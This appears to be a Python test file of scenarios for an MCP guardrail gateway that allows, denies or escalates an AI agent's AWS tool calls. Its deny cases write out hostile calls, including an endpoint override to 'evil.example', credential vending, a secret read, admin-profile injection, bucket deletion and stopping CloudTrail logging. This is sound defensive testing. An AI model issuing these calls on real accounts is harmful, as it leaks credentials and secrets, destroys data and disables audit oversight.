"""Whose a call is, what it means, and what the policies and the table say of it."""

from __future__ import annotations

from sudo_mcp_guardrails.agents import TrustTier
from sudo_mcp_guardrails.gateway.deciding.settings import Prices
from sudo_mcp_guardrails.state.kill_switch import KillSwitch
from sudo_mcp_guardrails.state.targets import Target
from tests.gateway.deciding.making import LIVE, PROFILED, REGION, call, script
from tests.gateway.deciding.scenario import (
    ABROAD,
    ALLOW,
    APPLYING,
    AS_APPLY,
    AS_PLAN,
    ASK,
    DENY,
    LOOK,
    NOBODY,
    PUT,
    REDACT,
    Scenario,
    fails,
    thrown,
)

CALLS = (
    # What is allowed.
    Scenario("read", ALLOW, "", call(LOOK)),
    Scenario("knowledge", ALLOW, "", call({"q": "s3"}, "aws___search_documentation")),
    Scenario("read-by-command", ALLOW, "", call({"cli_command": "aws s3 ls"}, "call_aws", "cli")),
    Scenario("reviewed-read", ALLOW, "", call({"id": "1"}, "read", "mail")),
    Scenario("read-at-T0", ALLOW, "", call(LOOK), given={"tier": TrustTier.T0}),
    # Whose session.
    Scenario("other-agent", DENY, "decision.session", call(LOOK), session={"agent": "cat"}),
    Scenario("other-capability", DENY, "decision.session", call(LOOK), session={"capability": "apply"}),
    # The kill switch.
    Scenario("contained", DENY, "decision.contained", call(LOOK), kill_switch=thrown(Target.agent("bot"))),
    Scenario("all-contained", DENY, "decision.contained", call(LOOK), kill_switch=thrown(Target.everyone())),
    Scenario("others-contained", ALLOW, "", call(LOOK), kill_switch=thrown(Target.agent("cat"))),
    Scenario(
        "switch-unreadable", DENY, "decision.contained", call(LOOK), kill_switch=lambda: KillSwitch(unreadable="no")
    ),
    Scenario("switch-raises", DENY, "decision.contained", call(LOOK), kill_switch=fails),
    # Whose credentials.
    Scenario("profile", DENY, "decision.identity", call({**LOOK, "aws_profile": "admin"}), "aws_profile"),
    Scenario("profile-elsewhere", DENY, "decision.identity", call({"aws_profile": "admin"}, "read", "mail")),
    Scenario("profile-null", ALLOW, "", call({**LOOK, "aws_profile": None})),
    Scenario("own-profile", ALLOW, "", call({**LOOK, "aws_profile": "bot"}), given={"profile": "bot"}),
    Scenario(
        "chosen-profile", REDACT, "decision.credentials", call(LOOK, definition=PROFILED), given={"profile": "bot"}
    ),
    Scenario("meta-profile", DENY, "decision.identity", call(LOOK, meta={"AWS_PROFILE": "admin"}), "_meta"),
    Scenario("meta-region", DENY, "decision.identity", call(LOOK, meta={"aws_region": "us-east-1"}), "_meta"),
    Scenario("meta-prefixed", DENY, "decision.identity", call(LOOK, meta={"com.example/AWS_REGION": "us-east-1"})),
    Scenario("meta-own-region", ALLOW, "", call(LOOK, meta={"AWS_REGION": REGION, "traceparent": "00"})),
    # What it means.
    Scenario("undecidable", DENY, "decision.undecidable", call({"code": "exec(x)"}), "line 1"),
    Scenario("unknown-tool", DENY, "decision.unknown-tool", call({}, "mystery", "mail")),
    Scenario("aws-name-elsewhere", DENY, "decision.unknown-tool", call(LOOK, server="mail")),
    Scenario("knowledge-name-elsewhere", DENY, "decision.unknown-tool", call({}, "recommend", "mail")),
    Scenario(
        "vending", DENY, "decision.vending", call({"cli_command": "aws ecr get-login-password"}, "call_aws", "cli")
    ),
    Scenario(
        "refused-option",
        DENY,
        "decision.refused",
        call({"cli_command": "aws s3api list-buckets --endpoint-url https://evil.example"}, "call_aws", "cli"),
        "endpoint-url",
    ),
    # Capability and policies.
    Scenario("read-agent-writes", DENY, "decision.capability", call(PUT), "proposal function"),
    Scenario("plan-agent-writes", DENY, "decision.policy", call(PUT), "dynamodb:PutItem", **AS_PLAN),
    Scenario(
        "secret",
        DENY,
        "decision.policy",
        call(script("secretsmanager", "GetSecretValue", SecretId="bot-key")),
        "boundary",
    ),
    Scenario("other-region", DENY, "decision.policy", call(ABROAD)),
    Scenario("no-role", DENY, "decision.no-role", call(LOOK), given={"role": None}),
    # The table.
    Scenario("write-R1-sandbox", ASK, "decision.ask", call(PUT), "R1", given=AS_APPLY, session=APPLYING),
    Scenario(
        "write-in-production",
        DENY,
        "decision.approval",
        call(PUT),
        "proposal function",
        given={**AS_APPLY, "environment": LIVE},
        session=APPLYING,
    ),
    Scenario(
        "nobody-asks-the-client",
        DENY,
        "decision.approval",
        call(PUT),
        given={**AS_APPLY, "askable": frozenset()},
        session=APPLYING,
    ),
    Scenario(
        "write-at-T0",
        DENY,
        "decision.tier",
        call(PUT),
        "T0/R1",
        given={**AS_APPLY, "tier": TrustTier.T0},
        session=APPLYING,
    ),
    Scenario(
        "R3-never-by-client",
        DENY,
        "decision.approval",
        call(script("s3", "DeleteBucket", Bucket="bot-a")),
        given=AS_APPLY,
        session=APPLYING,
    ),
    Scenario(
        "R4",
        DENY,
        "decision.forbidden",
        call(script("cloudtrail", "StopLogging", Name="mcp-guardrails-trail")),
        given=AS_APPLY,
        session=APPLYING,
    ),
    Scenario("by-rule", ALLOW, "", call(PUT), given=NOBODY, session=APPLYING),
    Scenario(
        "by-rule-cost-unknown",
        ASK,
        "decision.ask",
        call(PUT),
        "cents",
        given={**NOBODY, "prices": Prices()},
        session=APPLYING,
    ),
    Scenario(
        "by-rule-used-up",
        ASK,
        "decision.ask",
        call(PUT, number=9),
        "used up",
        given=NOBODY,
        session=APPLYING,
        before=tuple(call(PUT, number=n) for n in range(1, 6)),
    ),
    Scenario(
        "audited",
        ALLOW,
        "decision.audited",
        call(PUT),
        given={**NOBODY, "tier": TrustTier.T3, "environment": LIVE},
        session=APPLYING,
    ),
)
